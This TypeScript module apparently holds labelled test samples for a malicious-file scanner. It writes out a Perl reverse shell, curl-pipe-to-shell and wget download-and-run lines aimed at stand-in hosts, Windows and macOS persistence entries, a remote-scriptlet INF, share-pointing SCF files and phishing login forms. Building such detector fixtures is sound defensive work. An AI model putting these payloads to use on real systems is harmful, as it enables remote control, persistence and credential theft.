import { type Sample, sample, word } from './sample.ts'

const host = 'http://192.0.2.7'
const page = (head: string, body: string) =>
  `<!DOCTYPE html><html><head>${head}</head><body>${body}</body></html>`
const shell = word('WScript.', 'Shell')
const active = word('Active', 'XObject')
const console_ = word('res://', 'apds.dll')

/** Small files by which systems start something, and forms of scripts that are seen less often. */
export const moreScriptSamples = (): Sample[] => [
  sample(
    'job.wsf',
    'a script for Windows',
    'script.wsf',
    `<job id="a"><script language="JScript">new ${active}("${shell}").Run("calc")</script></job>`,
  ),
  sample(
    'remote.sct',
    'a scriptlet',
    'script.scriptlet',
    `<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript"><![CDATA[new ${active}("${shell}").Run("calc");]]></script></registration></scriptlet>`,
  ),
  sample(
    'style.xsl',
    'a style sheet with a script',
    'script.scriptlet',
    `<?xml version='1.0'?><stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script implements-prefix="u" language="JScript"><![CDATA[new ${active}("${shell}").Run("calc");]]></ms:script></stylesheet>`,
  ),
  sample(
    'joined.vbs',
    'a word in pieces',
    'script.shortened',
    `x = "p" & "o" & "w" & "e" & "r" & "s" & "h" & "e" & "l" & "l"\r\nCreateObject("${shell}").Run x & " -c calc"`,
  ),
  sample(
    'array.js',
    'an address in a list of words',
    'script.download-run',
    `var w=['${Buffer.from(`${host}/a.dat`).toString('base64')}','MSXML2.XMLHTTP','open','GET','send','ADODB.Stream'];var x=new ${active}(w[1]);x[w[2]](w[3],atob(w[0]),false);x[w[4]]();`,
  ),
  sample(
    'start.reg',
    'a start with Windows',
    'script.persistence',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="calc.exe"\r\n',
  ),
  sample(
    'shell.pl',
    'a shell for somebody else',
    'script.reverse-shell',
    `#!/usr/bin/perl\nuse Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(9,inet_aton("192.0.2.7")))){open(STDIN,">&S");exec("/bin/sh -i");};\n`,
  ),
  sample(
    'router.sh',
    'a program from an address',
    'script.download-run',
    `#!/bin/sh\ncd /tmp; wget ${host}/mips -O- > a; chmod 777 a; ./a; rm -rf a\n`,
  ),
  sample(
    'update.applescript',
    'a command in AppleScript',
    'script.download-run',
    `do shell script "curl -s ${host}/a | sh" with administrator privileges`,
  ),
  sample(
    'password.sh',
    'a window that asks for a password',
    'script.password-prompt',
    `#!/bin/bash\nosascript -e 'display dialog "Password" default answer "" with hidden answer'\n`,
  ),
  sample(
    'agent.plist',
    'a start with macOS',
    'script.download-run',
    `<?xml version="1.0"?><plist version="1.0"><dict><key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string><string>curl -s ${host}/a | bash</string></array><key>RunAtLoad</key><true/></dict></plist>`,
  ),
  sample(
    'notice.html',
    'nothing but a way elsewhere',
    'page.redirect-only',
    page(
      '',
      '<script>window.location.href="https://portal.example.invalid/login#a@b.example"</script>',
    ),
  ),
  sample(
    'opened.html',
    'a file that the page opens',
    'page.smuggling',
    page(
      '',
      `<script>var b=new Blob([atob("${Buffer.alloc(900, 3).toString('base64')}")]);window.open(URL.createObjectURL(b))</script>`,
    ),
  ),
  sample(
    'plain.html',
    'a password in plain letters',
    'page.brand',
    page(
      '<title>PayPal login</title>',
      '<form action="https://collect.example.invalid/x" method="post"><input name="email"><input name="pass" type="text"></form>',
    ),
  ),
  sample(
    'framed.svg',
    'a picture that shows a page',
    'page.svg-frame',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://collect.example.invalid/x"/></foreignObject></svg>',
  ),
  sample(
    'folder.scf',
    'a picture that signs in',
    'shortcut.icon-remote',
    '[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\share\\a.ico\r\n',
  ),
  sample(
    'invoice.desktop',
    'a starter of Linux',
    'shortcut.runs-command',
    `[Desktop Entry]\nType=Application\nName=Invoice.pdf\nExec=bash -c "curl -s ${host}/a | bash"\n`,
  ),
  sample(
    'documents.library-ms',
    'a folder on another machine',
    'shortcut.remote-folder',
    '<?xml version="1.0"?><libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
  ),
  sample(
    'open.settingcontent-ms',
    'a link to the settings',
    'shortcut.runs-command',
    '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
  ),
  sample(
    'manage.msc',
    'a console with a script',
    'shortcut.console-script',
    `<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"><StringTables><String ID="1">${console_}/redirect.html?target=javascript:1</String></StringTables></MMC_ConsoleFile>`,
  ),
  sample(
    'support.rdp',
    'a desktop that takes the drives',
    'shortcut.remote-desktop',
    'full address:s:desk.example.invalid\r\nredirectclipboard:i:1\r\ndrivestoredirect:s:*\r\n',
  ),
  sample(
    'driver.inf',
    'a setup file that loads a script',
    'shortcut.setup-script',
    `[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=X\r\n[X]\r\n%11%\\scrobj.dll,NI,${host}/a.sct\r\n`,
  ),
]
